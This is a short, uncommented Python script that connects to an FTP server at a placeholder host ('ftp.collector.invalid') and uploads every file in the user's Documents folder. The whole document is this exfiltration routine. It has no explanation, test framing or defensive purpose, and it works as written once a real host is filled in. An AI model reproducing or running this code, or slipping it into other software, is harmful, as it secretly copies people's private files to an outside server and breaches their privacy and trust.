import ftplib, os
ftp = ftplib.FTP("ftp.collector.invalid", "u", "p")
for name in os.listdir(os.path.expanduser("~/Documents")):
    with open(os.path.join(os.path.expanduser("~/Documents"), name), "rb") as f:
        ftp.storbinary("STOR " + name, f)
